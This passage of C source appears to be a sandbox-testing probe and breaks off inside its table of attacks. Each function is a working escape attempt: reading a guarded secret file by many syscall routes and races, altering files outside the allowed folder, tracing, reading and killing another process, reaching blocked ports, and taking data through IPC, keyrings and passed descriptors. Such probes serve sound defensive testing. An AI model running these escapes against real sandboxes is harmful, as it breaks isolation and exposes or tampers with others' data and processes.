// Ways out that only native code has: each attack is a function, called by its name. It is a program
// (`probe ATTACK SECRET OUTSIDE WORK OTHER_PORT ALLOWED_PORT VICTIM ABSTRACT SOCKET OTHER_LISTEN_PORT`) and an addon, whose
// arguments are the lines of the file `attack` in the working folder; of `attack.now` as soon as it is loaded.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/sendfile.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>
#include <utime.h>

extern char **environ;
static const char *secret, *outside, *work, *abstract_name, *socket_path;
static int other_port, allowed_port, victim, other_listen_port;

static char *join(const char *folder, const char *name) {
    char *path = malloc(strlen(folder) + strlen(name) + 2);
    sprintf(path, "%s/%s", folder, name);
    return path;
}

static void show(int descriptor) {
    char bytes[4096];
    ssize_t count;
    while ((count = read(descriptor, bytes, sizeof bytes)) > 0)
        if (write(1, bytes, count) < 0) return;
}

static void show_file(const char *path) {
    int descriptor = open(path, O_RDONLY);
    if (descriptor >= 0) show(descriptor);
}

static char *proc(const char *format, ...) {
    char *path = malloc(512);
    va_list rest;
    va_start(rest, format);
    vsnprintf(path, 512, format, rest);
    va_end(rest);
    return path;
}

// Files.
static void open_directly(void) { show_file(secret); }
static void open_by_open(void) { show(syscall(SYS_open, secret, O_RDONLY)); }
static void open_from_folder(void) {
    int folder = open(work, O_PATH);
    show(openat(folder, "../../outside/secret.txt", O_RDONLY));
}
static void open_by_openat2(void) {
    struct { unsigned long flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    show(syscall(SYS_openat2, AT_FDCWD, secret, &how, sizeof how));
}
static void open_root_of_self(void) { show_file(proc("/proc/self/root%s", secret)); }
static void open_path_again(void) { show_file(proc("/proc/self/fd/%d", open(secret, O_PATH))); }
static void link_by_descriptor(void) {
    char *own = join(work, "hard");
    linkat(open(secret, O_PATH), "", AT_FDCWD, own, AT_EMPTY_PATH);
    show_file(own);
}
static void exchange(void) {
    char *own = join(work, "own");
    close(creat(own, 0600));
    syscall(SYS_renameat2, AT_FDCWD, own, AT_FDCWD, secret, 2);
    show_file(own);
}
static void open_by_handle(void) {
    char space[sizeof(struct file_handle) + 128];
    struct file_handle *handle = (void *)space;
    handle->handle_bytes = 128;
    int mount;
    if (name_to_handle_at(AT_FDCWD, secret, handle, &mount, 0) == 0)
        show(open_by_handle_at(open(work, O_RDONLY), handle, O_RDONLY));
}
static void map(void) {
    int descriptor = open(secret, O_RDONLY);
    char *memory = mmap(0, 64, PROT_READ, MAP_PRIVATE, descriptor, 0);
    if (memory != MAP_FAILED && write(1, memory, 40) < 0) return;
}
static void send_file(void) {
    int from = open(secret, O_RDONLY), to = open(join(work, "sent"), O_RDWR | O_CREAT, 0600);
    if (sendfile(to, from, 0, 100) > 0) { lseek(to, 0, SEEK_SET); show(to); }
}
static void copy_range(void) {
    int from = open(secret, O_RDONLY), to = open(join(work, "copied"), O_RDWR | O_CREAT, 0600);
    if (copy_file_range(from, 0, to, 0, 100, 0) > 0) { lseek(to, 0, SEEK_SET); show(to); }
}
static volatile int is_racing = 1;
static void *swap(void *nothing) {
    char *one = join(work, "one"), *two = join(work, "two");
    while (is_racing) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, 2);
    return nothing;
}
static void race(void) {
    char *one = join(work, "one"), *two = join(work, "two"), *good = join(work, "good");
    close(creat(good, 0600));
    symlink(good, one);
    symlink(secret, two);
    pthread_t thread;
    pthread_create(&thread, 0, swap, 0);
    for (int count = 0; count < 20000; count++) show_file(one);
    is_racing = 0;
    pthread_join(thread, 0);
}
static void read_by_ring(void) {
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    int ring = syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0) return;
    size_t size = params.sq_off.array + params.sq_entries * 4, done_size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    char *queue = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *done = mmap(0, done_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *entries = mmap(0, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    memset(entries, 0, sizeof *entries);
    entries->opcode = IORING_OP_OPENAT;
    entries->fd = AT_FDCWD;
    entries->addr = (unsigned long)secret;
    ((unsigned *)(queue + params.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(queue + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, 1, 0, 0);
    show(((struct io_uring_cqe *)(done + params.cq_off.cqes))->res);
}
static void list_names(void) {
    char bytes[4096];
    int folder = open(outside, O_RDONLY | O_DIRECTORY);
    long count = syscall(SYS_getdents64, folder, bytes, sizeof bytes);
    if (count > 0 && write(1, bytes, count) < 0) return;
}

// Changes.
static void truncate_file(void) { truncate(join(outside, "target"), 0); }
static void empty_by_open(void) { syscall(SYS_open, join(outside, "target"), O_RDONLY | O_TRUNC); }
static void make_file(void) { creat(join(outside, "new"), 0600); }
static void make_folder(void) { mkdir(join(outside, "new"), 0700); }
static void make_pipe(void) { mknod(join(outside, "new"), S_IFIFO | 0600, 0); }
static void make_link(void) { symlink("x", join(outside, "new")); }
static void make_temporary(void) {
    int descriptor = open(work, O_TMPFILE | O_RDWR, 0600);
    linkat(AT_FDCWD, proc("/proc/self/fd/%d", descriptor), AT_FDCWD, join(outside, "new"), AT_SYMLINK_FOLLOW);
}
static void make_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path, join(outside, "new"));
    bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, sizeof address);
}
static void remove_file(void) { unlink(join(outside, "target")); }
static void remove_folder(void) { rmdir(join(outside, "empty")); }
static void move_out(void) {
    char *own = join(work, "own");
    close(creat(own, 0600));
    rename(own, join(outside, "new"));
}
static void change_mode(void) { chmod(join(outside, "target"), 0777); }
static void change_attribute(void) { setxattr(join(outside, "target"), "user.note", "x", 1, 0); utimensat(AT_FDCWD, join(outside, "target"), 0, 0); }
static void change_mode_in_folder(void) { fchmodat(open(outside, O_PATH), "target", 0777, 0); }
static void change_mode_by_flags(void) { syscall(452, AT_FDCWD, join(outside, "target"), 0777, AT_SYMLINK_NOFOLLOW); }
static void change_mode_of_descriptor(void) { fchmod(open(join(work, "../file.txt"), O_RDONLY), 0777); }
static void change_times_of_descriptor(void) {
    struct timespec times[2] = {{1, 0}, {1, 0}};
    futimens(open(join(work, "../file.txt"), O_RDONLY), times);
}
static void change_times_by_old_call(void) {
    struct utimbuf times = {1, 1};
    utime(join(outside, "target"), &times);
}
static volatile int is_over;
static char raced_path[4096];
static void *change_path(void *unused) {
    while (!is_over) {
        strcpy(raced_path, join(outside, "target"));
        strcpy(raced_path, join(work, "own"));
    }
    return unused;
}
static void change_mode_in_race(void) {
    close(open(join(work, "own"), O_WRONLY | O_CREAT, 0600));
    pthread_t thread;
    pthread_create(&thread, 0, change_path, 0);
    for (int count = 0; count < 3000; count++) chmod(raced_path, 0700 + (count & 7));
    is_over = 1;
    pthread_join(thread, 0);
}
static void mount_folder(void) {
    char *own = join(work, "mounted");
    mkdir(own, 0700);
    if (unshare(CLONE_NEWNS) == 0 && mount(outside, own, 0, MS_BIND, 0) == 0) show_file(join(own, "secret.txt"));
}
static void name_space(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) mount_folder();
}
static void other_root(void) {
    if (chroot(outside) == 0) show_file("/secret.txt");
}

// Programs.
static char *const cat_words[] = {"cat", 0, 0};
static char **words(void) {
    static char *list[3];
    list[0] = cat_words[0];
    list[1] = (char *)secret;
    return list;
}
static void wait_all(void) { while (wait(0) > 0) {} }
static void fork_and_start(void) {
    if (fork() == 0) { execv("/bin/cat", words()); _exit(1); }
    wait_all();
}
static void vfork_and_start(void) {
    if (vfork() == 0) { execv("/bin/cat", words()); _exit(1); }
    wait_all();
}
static void spawn(void) {
    pid_t child;
    posix_spawn(&child, "/bin/cat", 0, 0, words(), environ);
    wait_all();
}
static void clone_and_start(void) {
    long child = syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
    if (child == 0) { execv("/bin/cat", words()); _exit(1); }
    wait_all();
}
static void start_from_memory(void) {
    int memory = memfd_create("x", 0), file = open("/bin/cat", O_RDONLY);
    char bytes[65536];
    ssize_t count;
    while ((count = read(file, bytes, sizeof bytes)) > 0) if (write(memory, bytes, count) < 0) return;
    if (fork() == 0) { syscall(SYS_execveat, memory, "", words(), environ, AT_EMPTY_PATH); execv(proc("/proc/self/fd/%d", memory), words()); _exit(1); }
    wait_all();
}
static void start_by_loader(void) {
    char *list[] = {"ld.so", "/bin/cat", (char *)secret, 0};
    if (fork() == 0) { execv("/lib64/ld-linux-x86-64.so.2", list); _exit(1); }
    wait_all();
}

// Other processes.
static void trace(void) {
    if (ptrace(PTRACE_ATTACH, victim, 0, 0) != 0) return;
    waitpid(victim, 0, 0);
    show_file(proc("/proc/%d/environ", victim));
    ptrace(PTRACE_DETACH, victim, 0, 0);
}
static unsigned long stack_of(int process, unsigned long *size) {
    FILE *maps = fopen(proc("/proc/%d/maps", process), "r");
    char line[512];
    unsigned long from, to;
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &from, &to) == 2) { *size = to - from; return from; }
    return 0;
}
static void read_memory(void) {
    unsigned long size, from = stack_of(victim, &size);
    if (!from) return;
    char *bytes = malloc(size);
    struct iovec here = {bytes, size}, there = {(void *)from, size};
    ssize_t count = syscall(SYS_process_vm_readv, victim, &here, 1, &there, 1, 0);
    if (count > 0 && write(1, bytes, count) < 0) return;
}
static void read_memory_by_file(void) {
    unsigned long size, from = stack_of(victim, &size);
    int memory = open(proc("/proc/%d/mem", victim), O_RDONLY);
    char *bytes = malloc(from ? size : 1);
    ssize_t count = from ? pread(memory, bytes, size, from) : 0;
    if (count > 0 && write(1, bytes, count) < 0) return;
}
static void take_descriptor(void) {
    int handle = syscall(SYS_pidfd_open, victim, 0);
    for (int number = 3; number < 64; number++) {
        int copy = syscall(SYS_pidfd_getfd, handle, number, 0);
        char bytes[200];
        ssize_t count = copy < 0 ? 0 : pread(copy, bytes, sizeof bytes, 0);
        if (count > 0 && write(1, bytes, count) < 0) return;
    }
}
static void root_of_other(void) { show_file(proc("/proc/%d/root%s", victim, secret)); }
static void folder_of_other(void) { show_file(proc("/proc/%d/cwd/secret.txt", victim)); }
static void variables_of_other(void) { show_file(proc("/proc/%d/environ", victim)); }
static void join_name_space(void) {
    int handle = syscall(SYS_pidfd_open, victim, 0);
    if (setns(handle, CLONE_NEWNS) == 0) show_file(secret);
}
static void signal_process(void) { kill(victim, SIGKILL); }
static void signal_thread(void) { syscall(SYS_tgkill, victim, victim, SIGKILL); }
static void signal_thread_only(void) { syscall(SYS_tkill, victim, SIGKILL); }
static void signal_by_handle(void) { syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, victim, 0), SIGKILL, 0, 0); }
static void signal_queue(void) {
    union sigval value = {0};
    sigqueue(victim, SIGKILL, value);
}
static void signal_by_descriptor(void) {
    int pair[2];
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    fcntl(pair[0], F_SETOWN, victim);
    fcntl(pair[0], F_SETSIG, SIGKILL);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0) return;
    usleep(100000);
}

// Networks.
static struct sockaddr_in host(const char *ip, int port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &address.sin_addr);
    return address;
}
static void connect_to(int descriptor, const char *ip, int port) {
    struct sockaddr_in address = host(ip, port);
    connect(descriptor, (void *)&address, sizeof address);
    if (send(descriptor, "x", 1, MSG_NOSIGNAL) < 0) return;
    usleep(100000);
}
static void connect_port(void) { connect_to(socket(AF_INET, SOCK_STREAM, 0), "127.0.0.1", other_port); }
static void connect_host(void) { connect_to(socket(AF_INET, SOCK_STREAM, 0), "127.0.0.2", allowed_port); }
static void connect_multipath(void) { connect_to(socket(AF_INET, SOCK_STREAM, 262), "127.0.0.1", other_port); }
static void connect_mapped(void) {
    struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons(other_port)};
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &address.sin6_addr);
    connect(socket(AF_INET6, SOCK_STREAM, 0), (void *)&address, sizeof address);
}
static void fast_open(void) {
    struct sockaddr_in address = host("127.0.0.1", other_port);
    if (sendto(socket(AF_INET, SOCK_STREAM, 0), "x", 1, MSG_FASTOPEN, (void *)&address, sizeof address) < 0) return;
    usleep(100000);
}
static void fast_open_message(void) {
    struct sockaddr_in address = host("127.0.0.1", other_port);
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &part, .msg_iovlen = 1};
    if (sendmsg(socket(AF_INET, SOCK_STREAM, 0), &message, MSG_FASTOPEN) < 0) return;
    usleep(100000);
}
static void fast_open_option(void) {
    int descriptor = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(descriptor, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    connect_to(descriptor, "127.0.0.1", other_port);
}
static void *change_address(void *memory) {
    struct sockaddr_in *address = memory;
    for (int count = 0; count < 2000000; count++) { address->sin_port = htons(count & 1 ? other_port : allowed_port); __asm__ volatile("" ::: "memory"); }
    return 0;
}
static void connect_in_race(void) {
    struct sockaddr_in *address = malloc(sizeof *address);
    *address = host("127.0.0.1", allowed_port);
    pthread_t thread;
    pthread_create(&thread, 0, change_address, address);
    for (int count = 0; count < 200; count++) {
        int descriptor = socket(AF_INET, SOCK_STREAM, 0);
        connect(descriptor, (void *)address, sizeof *address);
        struct sockaddr_in peer;
        socklen_t size = sizeof peer;
        if (getpeername(descriptor, (void *)&peer, &size) == 0 && peer.sin_port == htons(other_port)) break;
        close(descriptor);
    }
    pthread_join(thread, 0);
}
static void datagram(void) {
    struct sockaddr_in address = host("127.0.0.1", other_port);
    if (sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (void *)&address, sizeof address) < 0) return;
}
static void raw_datagram(void) {
    struct sockaddr_in address = host("127.0.0.1", 0);
    unsigned short packet[5] = {htons(9), htons(other_port), htons(9), 0, 'x'};
    if (sendto(socket(AF_INET, SOCK_RAW, IPPROTO_UDP), packet, 9, 0, (void *)&address, sizeof address) < 0) return;
}
static void connect_abstract(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path + 1, abstract_name);
    connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(abstract_name));
}
static void connect_local(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path, socket_path);
    connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, sizeof address);
}
static void serve(int descriptor) {
    for (int count = 0; count < 1; count++) {
        struct timeval patience = {1, 0};
        setsockopt(descriptor, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        int peer = accept(descriptor, 0, 0);
        if (peer >= 0 && write(peer, "here", 4) < 0) return;
    }
}
static void listen_on_port(void) {
    struct sockaddr_in address = host("127.0.0.1", other_listen_port);
    int descriptor = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(descriptor, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    bind(descriptor, (void *)&address, sizeof address);
    if (listen(descriptor, 1) == 0) serve(descriptor);
}
static void listen_multipath(void) {
    struct sockaddr_in address = host("127.0.0.1", other_listen_port);
    int descriptor = socket(AF_INET, SOCK_STREAM, 262);
    bind(descriptor, (void *)&address, sizeof address);
    if (listen(descriptor, 1) == 0) serve(descriptor);
}

// What processes of a user share by numbers and names that are no files. `keep` is the process outside that has it all.
struct note { long kind; char text[128]; };
enum { INDEXES_MAX = 4096 };

static void read_shared_memory(void) {
    struct shmid_ds state;
    for (int index = 0; index < INDEXES_MAX; index++) {
        int id = shmctl(index, SHM_STAT, &state);
        if (id < 0 || state.shm_cpid != victim) continue;
        char *text = shmat(id, 0, SHM_RDONLY);
        if (text != (void *)-1) puts(text);
    }
    // The numbers can be guessed, too.
    for (int id = 0; id < INDEXES_MAX; id++) {
        char *text = shmat(id, 0, SHM_RDONLY);
        if (text != (void *)-1) write(1, text, strnlen(text, 128));
    }
    fflush(stdout);
}
static void read_messages(void) {
    struct msqid_ds state;
    struct note note;
    for (int index = 0; index < INDEXES_MAX; index++) {
        int id = msgctl(index, MSG_STAT, &state);
        if (id < 0 || state.msg_lspid != victim) continue;
        if (msgrcv(id, &note, sizeof note.text, 0, IPC_NOWAIT) > 0) puts(note.text);
    }
    fflush(stdout);
}
static void remove_semaphore(void) {
    struct semid_ds state;
    for (int index = 0; index < INDEXES_MAX; index++) {
        int id = semctl(index, 0, SEM_STAT, &state);
        if (id >= 0 && semctl(id, 0, GETPID) == victim) semctl(id, 0, IPC_RMID);
    }
}
static void remove_message_queue(void) { mq_unlink(proc("/escape-%d", victim)); }
static struct sockaddr_un datagrams_of_victim(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s/../datagrams", outside);
    return to;
}
static void datagram_from_pair(void) {
    int pair[2];
    struct sockaddr_un to = datagrams_of_victim();
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0) sendto(pair[0], "x", 1, 0, (void *)&to, sizeof to);
}
static void datagram_from_connected_pair(void) {
    int pair[2];
    struct sockaddr_un to = datagrams_of_victim();
    if (socketpair(AF_UNIX, SOCK_RAW | SOCK_CLOEXEC, 0, pair) == 0 && connect(pair[0], (void *)&to, sizeof to) == 0)
        write(pair[0], "x", 1);
}

static int semaphore = -1, queue = -1, shared = -1;
static void *wait_for_semaphore(void *nothing) {
    struct sembuf raise = {.sem_op = 1}, lower = {.sem_op = -1}, again = {.sem_op = -1};
    semop(semaphore, &raise, 1);
    semop(semaphore, &lower, 1);
    if (semop(semaphore, &again, 1) == 0 || errno == EIDRM) _exit(3);
    return nothing;
}
/** Passes the descriptor of the secret, which the test opened, to whoever connects. */
static void *pass_descriptor(void *nothing) {
    struct sockaddr_un here = {.sun_family = AF_UNIX};
    int length = offsetof(struct sockaddr_un, sun_path) + 1 + sprintf(here.sun_path + 1, "escape-passes-%d", getpid());
    int own = socket(AF_UNIX, SOCK_STREAM, 0), passed = 3;
    bind(own, (void *)&here, length);
    listen(own, 8);
    for (;;) {
        int peer = accept(own, 0, 0);
        char space[CMSG_SPACE(sizeof passed)];
        struct iovec part = {"x", 1};
        struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        *CMSG_FIRSTHDR(&message) = (struct cmsghdr){CMSG_LEN(sizeof passed), SOL_SOCKET, SCM_RIGHTS};
        memcpy(CMSG_DATA(CMSG_FIRSTHDR(&message)), &passed, sizeof passed);
        sendmsg(peer, &message, 0);
        close(peer);
    }
    return nothing;
}
/** `probe keep SOCKET`, with the secret in its environment: ends when another process reaches what it has. */
static void keep(const char *path) {
    const char *text = getenv("ESCAPE_SECRET");
    int own = getpid(), alive[2];
    char *name = proc("/escape-%d", own);
    struct note note = {.kind = 1};
    strncpy(note.text, text, sizeof note.text - 1);
    queue = msgget(IPC_PRIVATE, 0600);
    msgsnd(queue, &note, sizeof note.text, 0);
    semaphore = semget(IPC_PRIVATE, 1, 0600);
    shared = shmget(IPC_PRIVATE, 4096, 0600);
    char *memory = shmat(shared, 0, 0);
    if (memory != (void *)-1) strcpy(memory, text);
    mq_open(name, O_CREAT | O_RDONLY, 0600, (struct mq_attr *)0);
    struct sockaddr_un here = {.sun_family = AF_UNIX};
    strncpy(here.sun_path, path, sizeof here.sun_path - 1);
    long key = syscall(SYS_add_key, "user", proc("escape-%d", own), text, strlen(text), KEY_SPEC_USER_KEYRING);
    int datagrams = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    bind(datagrams, (void *)&here, sizeof here);
    // These outlive their process: another one removes them when it has ended.
    if (pipe(alive) == 0 && fork() == 0) {
        char byte;
        close(alive[1]);
        read(alive[0], &byte, 1);
        msgctl(queue, IPC_RMID, 0);
        semctl(semaphore, 0, IPC_RMID);
        shmctl(shared, IPC_RMID, 0);
        mq_unlink(name);
        syscall(SYS_keyctl, KEYCTL_UNLINK, key, KEY_SPEC_USER_KEYRING);
        _exit(0);
    }
    close(alive[0]);
    pthread_t waiting, passing;
    pthread_create(&passing, 0, pass_descriptor, 0);
    pthread_create(&waiting, 0, wait_for_semaphore, 0);
    write(1, "ready\n", 6);
    for (;;) {
        char byte;
        if (recv(datagrams, &byte, 1, 0) > 0) _exit(4);
        mqd_t again = mq_open(name, O_RDONLY);
        if (again == (mqd_t)-1) _exit(5);
        mq_close(again);
        usleep(10000);
    }
}

// Filters of its own: the kernel applies the last one of equal strictness.
static int own_listener = -1;
static void *let_through(void *nothing) {
    for (;;) {
        struct seccomp_notif call = {0};
        struct seccomp_notif_resp reply = {.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        if (ioctl(own_listener, SECCOMP_IOCTL_NOTIF_RECV, &call) != 0) return nothing;
        reply.id = call.id;
        ioctl(own_listener, SECCOMP_IOCTL_NOTIF_SEND, &reply);
    }
}
static void connect_by_own_listener(void) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {.len = 4, .filter = code};
    pthread_t listening;
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    own_listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    if (own_listener < 0) return;
    pthread_create(&listening, 0, let_through, 0);
    connect_to(socket(AF_INET, SOCK_STREAM, 0), "127.0.0.1", other_port);
}
static void signal_by_socket(void) {
    // The owner of a socket gets its signals: as F_SETOWN, by another call.
    int pair[2], on = 1, owner = victim;
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    fcntl(pair[0], F_SETSIG, SIGKILL);
    ioctl(pair[0], FIOSETOWN, &owner);
    ioctl(pair[0], FIOASYNC, &on);
    write(pair[1], "x", 1);
}
static void write_own_memory(void) {
    // A path that was checked is written over by /proc/self/mem, which ignores what pages may be.
    static const char allowed[] = "file.txt\0 a constant that is longer than any path of the test: ................................................................................................................................................................................................";
    int memory = open("/proc/self/mem", O_RDWR);
    pwrite(memory, secret, strlen(secret) + 1, (off_t)allowed);
    show_file(allowed);
}
static void open_by_tree(void) {
    int file = syscall(SYS_open_tree, AT_FDCWD, secret, 0);
    show_file(proc("/proc/self/fd/%d", file));
}
static void root_of_thread(void) {
    show_file(proc("/proc/%d/task/%d/root%s", victim, victim, secret));
}

// What a process shares with the others of its user, and with those that it descends from.
static void read_key(void) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", proc("escape-%d", victim), 0);
    char bytes[200];
    long count = syscall(SYS_keyctl, KEYCTL_READ, key, bytes, sizeof bytes);
    if (count > 0 && write(1, bytes, count) < 0) return;
}
static void request_key(void) {
    long key = syscall(SYS_request_key, "user", proc("escape-%d", victim), 0, 0);
    char bytes[200];
    long count = key < 0 ? 0 : syscall(SYS_keyctl, KEYCTL_READ, key, bytes, sizeof bytes);
    if (count > 0 && write(1, bytes, count) < 0) return;
}
/** The descriptor of the secret, from the process that `keep` started (SCM_RIGHTS). */
static void take_passed_descriptor(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int length = offsetof(struct sockaddr_un, sun_path) + 1 + sprintf(to.sun_path + 1, "escape-passes-%d", victim);
    int own = socket(AF_UNIX, SOCK_STREAM, 0), passed;
    if (connect(own, (void *)&to, length) != 0) return;
    char byte, space[CMSG_SPACE(sizeof passed)];
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (recvmsg(own, &message, 0) < 0 || !CMSG_FIRSTHDR(&message)) return;
    memcpy(&passed, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof passed);
    lseek(passed, 0, SEEK_SET);
    show(passed);
}
static void variables_of_ancestors(void) {
    for (int process = getppid(), count = 0; process > 1 && count < 4; count++) {
        show_file(proc("/proc/%d/environ", process));
        FILE *file = fopen(proc("/proc/%d/stat", process), "r");
        if (!file || fscanf(file, "%*d (%*[^)]) %*c %d", &process) != 1) return;
        fclose(file);
    }
}
static void memory_of_ancestors(void) {
    int process = getppid();
    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    unsigned long size, from = stack_of(process, &size);
    if (!from) return;
    char *bytes = malloc(size);
    struct iovec here = {bytes, size}, there = {(void *)from, size};
    ssize_t count = syscall(SYS_process_vm_readv, process, &here, 1, &there, 1, 0);
    if (count > 0 && write(1, bytes, count) < 0) return;
}
static void trace_seized(void) {
    if (ptrace(PTRACE_SEIZE, victim, 0, 0) != 0) return;
    ptrace(PTRACE_INTERRUPT, victim, 0, 0);
    waitpid(victim, 0, __WALL);
    unsigned long size, from = stack_of(victim, &size);
    for (unsigned long at = from; from && at < from + size; at += sizeof(long)) {
        long word = ptrace(PTRACE_PEEKDATA, victim, at, 0);
        if (write(1, &word, sizeof word) < 0) return;
    }
    ptrace(PTRACE_DETACH, victim, 0, 0);
}
static void end_by_trace(void) {
    // The traced process ends with the one that traces it.
    ptrace(PTRACE_SEIZE, victim, 0, PTRACE_O_EXITKILL);
    _exit(0);
}
static void write_memory(void) {
    unsigned long size, from = stack_of(victim, &size);
    if (!from) return;
    char *bytes = calloc(1, size);
    struct iovec here = {bytes, size}, there = {(void *)from, size};
    syscall(SYS_process_vm_writev, victim, &here, 1, &there, 1, 0);
}
static void name_space_by_clone3(void) {
    unsigned long long words[11] = {CLONE_NEWNS, 0, 0, 0, SIGCHLD};
    if (syscall(SYS_clone3, words, 64) == 0) {
        char *own = join(work, "mounted");
        mkdir(own, 0700);
        if (mount(outside, own, 0, MS_BIND, 0) == 0) show_file(join(own, "secret.txt"));
        _exit(0);
    }
    wait_all();
}
static void mount_by_tree(void) {
    int tree = syscall(SYS_open_tree, AT_FDCWD, outside, 1 /* OPEN_TREE_CLONE */);
    show(openat(tree, "secret.txt", O_RDONLY));
}
static void dump_core(void) {
    // The kernel writes the file of a process that fails into its working folder.
    struct rlimit limit = {1 << 20, 1 << 20};
    setrlimit(RLIMIT_CORE, &limit);
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    signal(SIGABRT, SIG_DFL);
    if (chdir(join(outside, "empty")) == 0) abort();
}
static void datagram_to_path(void) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path, join(outside, "../datagrams"), sizeof to.sun_path - 1);
    sendto(socket(AF_UNIX, SOCK_DGRAM, 0), "x", 1, 0, (void *)&to, sizeof to);
}

static const struct { const char *name; void (*run)(void); } attacks[] = {
#define A(name) {#name, name}
    A(open_directly), A(open_by_open), A(open_from_folder), A(open_by_openat2), A(open_root_of_self), A(open_path_again),
    A(link_by_descriptor), A(exchange), A(open_by_handle), A(map), A(send_file), A(copy_range), A(race), A(read_by_ring),
    A(list_names), A(truncate_file), A(empty_by_open), A(make_file), A(make_folder), A(make_pipe),
    A(make_link), A(make_temporary), A(make_socket), A(remove_file), A(remove_folder), A(move_out), A(change_mode),
    A(change_attribute), A(change_mode_in_folder), A(change_mode_by_flags), A(change_mode_of_descriptor),
    A(change_times_of_descriptor), A(change_times_by_old_call), A(change_mode_in_race), A(mount_folder), A(name_space), A(other_root), A(fork_and_start), A(vfork_and_start), A(spawn),
    A(clone_and_start), A(start_from_memory), A(start_by_loader), A(trace), A(read_memory), A(read_memory_by_file),
    A(take_descriptor), A(root_of_other), A(folder_of_other), A(variables_of_other), A(join_name_space), A(signal_process),
    A(signal_thread), A(signal_thread_only), A(signal_by_handle), A(signal_queue), A(signal_by_descriptor),
    A(connect_port), A(connect_host), A(connect_multipath),
    A(connect_mapped), A(fast_open), A(fast_open_message), A(fast_open_option), A(connect_in_race), A(datagram),
    A(raw_datagram), A(connect_abstract), A(connect_local), A(listen_on_port), A(listen_multipath),
    A(read_shared_memory), A(read_messages), A(remove_semaphore), A(remove_message_queue), A(datagram_from_pair),
